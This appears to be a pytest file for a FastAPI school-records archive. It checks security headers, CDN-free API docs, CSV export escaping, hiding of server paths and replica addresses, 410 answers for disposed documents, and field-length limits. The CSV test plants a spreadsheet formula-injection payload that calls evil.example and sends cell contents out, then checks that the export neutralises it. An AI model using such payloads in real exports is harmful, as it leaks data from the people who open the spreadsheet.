"""What every HTTP answer guarantees (issue 8, findings 16–20): security headers, no CDN scripts, CSV cells that are
never formulas, no server paths or store addresses for strangers, 410 for a disposed document (and a new record for
its bytes), descriptive fields held to their columns."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from sqlalchemy import func, select

from archive.context import Archive
from archive.events import record_event
from archive.ingest import ingest_file
from archive.models import Document
from hoso.app import create_app
from tests.factories import bearer, make_archive, make_pdf, make_settings

HEADERS = ("content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy")


def _client(archive: Archive) -> TestClient:
    return TestClient(create_app(archive.settings, archive=archive), base_url="http://127.0.0.1")


def _upload(c: TestClient, h: dict[str, str], pdf: Path, **fields: str) -> object:
    form = {"school": "T01", "type": "so-dang-bo", "year": "2024-2025"} | fields
    return c.post("/api/v1/documents", data=form, files={"file": (pdf.name, pdf.read_bytes())}, headers=h)


def test_pages_api_answers_and_downloads_carry_security_headers(archive: Archive, tmp_path: Path):
    h = bearer(archive)
    with _client(archive) as c:
        doc = _upload(c, h, make_pdf(tmp_path / "so.pdf")).json()  # type: ignore[attr-defined]
        answers = [
            c.get("/dang-nhap"),
            c.get("/api/v1/documents", headers=h),
            c.get(f"/api/v1/documents/{doc['id']}/content", headers=h),
            c.get("/api/v1/documents", headers={"Authorization": "Bearer nope"}),
        ]
        for r in answers:
            for name in HEADERS:
                assert name in r.headers, (r.request.url, name)
            assert r.headers["x-content-type-options"] == "nosniff"
            assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
            assert "script-src 'self'" in r.headers["content-security-policy"]
            assert "unsafe-inline" not in r.headers["content-security-policy"]


def test_api_docs_load_nothing_from_a_cdn_and_are_off_in_production(archive: Archive, tmp_path: Path):
    with _client(archive) as c:
        page = c.get("/docs")
        assert page.status_code == 200
        assert "cdn." not in page.text and "https://" not in page.text.split("<body>")[0]
        assert c.get("/docs-assets/swagger-ui-bundle.js").status_code == 200
        assert c.get("/redoc").status_code == 404
    prod = make_settings(tmp_path / "prod", environment="production", secret_key="x" * 43 + "=")
    app = create_app(prod, archive=archive)
    with TestClient(app) as c:
        assert c.get("/docs").status_code == 404
        assert c.get("/openapi.json").status_code == 200


def test_audit_csv_export_never_starts_a_cell_with_a_formula(archive: Archive):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with archive.sessions() as s, s.begin():
        record_event(s, "test.csv", actor_name=evil, detail={"note": "+SUM(1,2)"})
    with _client(archive) as c:
        r = c.get(
            "/api/v1/audit/export", params={"format": "csv", "action": "test.csv"}, headers=bearer(archive)
        )
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 1
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "-", "@")), value
    assert rows[0]["actor"] == "'" + evil  # kept, readable, but text


def test_health_shows_store_addresses_only_to_the_system_administrator(archive: Archive):
    with _client(archive) as c:
        anon = c.get("/api/v1/health")
        admin = c.get("/api/v1/health", headers=bearer(archive))
    assert anon.status_code == admin.status_code == 200
    for url in archive.settings.replica_urls:
        assert url not in anon.text
        assert url in admin.text
    assert anon.json()["replicas"] == {"copy1": "ok", "copy2": "ok", "copy3": "ok"}


def test_refusals_do_not_reveal_server_paths(tmp_path: Path):
    folders = [(tmp_path / "kho" / f"ban{i}").as_uri() for i in (1, 2, 3)]
    archive = make_archive(tmp_path, replicas=folders)
    try:
        broken = tmp_path / "hong.pdf"
        broken.write_bytes(b"%PDF-1.7\n" + b"\x00garbage" * 500)
        with _client(archive) as c:
            r = _upload(c, bearer(archive), broken)
        assert r.status_code == 422  # type: ignore[attr-defined]
        text = r.text  # type: ignore[attr-defined]
        for secret in (str(tmp_path), str(archive.settings.spool_dir.resolve()), "/tmp/"):
            assert secret not in text
    finally:
        archive.close()


def test_a_disposed_document_answers_410_and_its_bytes_make_a_new_record(archive: Archive, tmp_path: Path):
    h = bearer(archive)
    pdf = make_pdf(tmp_path / "so-dang-bo-2001.pdf")
    with _client(archive) as c:
        first = _upload(c, h, pdf).json()  # type: ignore[attr-defined]
        # a disposal's end state, as retention/disposal.py leaves it: a tombstone and its event
        with archive.sessions() as s, s.begin():
            doc = s.get(Document, first["id"])
            assert doc is not None
            doc.status = "disposed"
            record_event(s, "document.dispose", document_id=doc.id, detail={"batch": 7, "record": "bb-1"})
        gone = c.get(f"/api/v1/documents/{first['id']}/content", headers=h)
        assert gone.status_code == 410
        body = gone.json()
        assert body["error"] == "disposed" and body["message_vi"] and body["message_en"]
        assert body["tombstone"]["document_id"] == first["id"]
        assert body["tombstone"]["disposal_batch"] == 7 and body["tombstone"]["disposed_at"]
        again = _upload(c, h, pdf)
        assert again.status_code == 201, again.text  # type: ignore[attr-defined]
        assert again.json()["id"] != first["id"] and again.json()["created"] is True  # type: ignore[attr-defined]
        fresh = c.get(f"/api/v1/documents/{again.json()['id']}/content", headers=h)  # type: ignore[attr-defined]
        assert fresh.status_code == 200 and fresh.content == pdf.read_bytes()
    with archive.sessions() as s:
        damage = s.scalar(select(func.count()).select_from(Document).where(Document.status == "disposed"))
    assert damage == 1


def test_descriptive_fields_longer_than_their_columns_are_refused(archive: Archive, tmp_path: Path):
    pdf = make_pdf(tmp_path / "dai.pdf")
    with _client(archive) as c:
        r = _upload(c, bearer(archive), pdf, title="T" * 10_000)
    assert r.status_code == 422 and r.json()["error"] == "too_long"  # type: ignore[attr-defined]
    # the command line and every other caller of ingest_file get the same rule
    try:
        ingest_file(
            archive, pdf, filename=pdf.name, school="T01", type_code="so-dang-bo", year="2024-2025",
            teacher="G" * 201,
        )  # fmt: skip
        raise AssertionError("a 201-character teacher name was stored")
    except Exception as exc:
        assert getattr(exc, "code", None) == "too_long"
    with archive.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Document)) == 0
